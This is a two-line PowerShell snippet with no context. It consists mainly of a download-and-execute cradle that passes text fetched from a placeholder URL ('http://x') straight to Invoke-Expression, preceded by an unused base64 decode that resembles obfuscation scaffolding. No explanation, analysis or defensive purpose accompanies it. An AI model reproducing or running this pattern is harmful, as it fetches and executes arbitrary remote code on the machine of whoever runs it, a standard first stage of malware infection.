	$x = [Convert]::FromBase64String("aQ==")
Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")
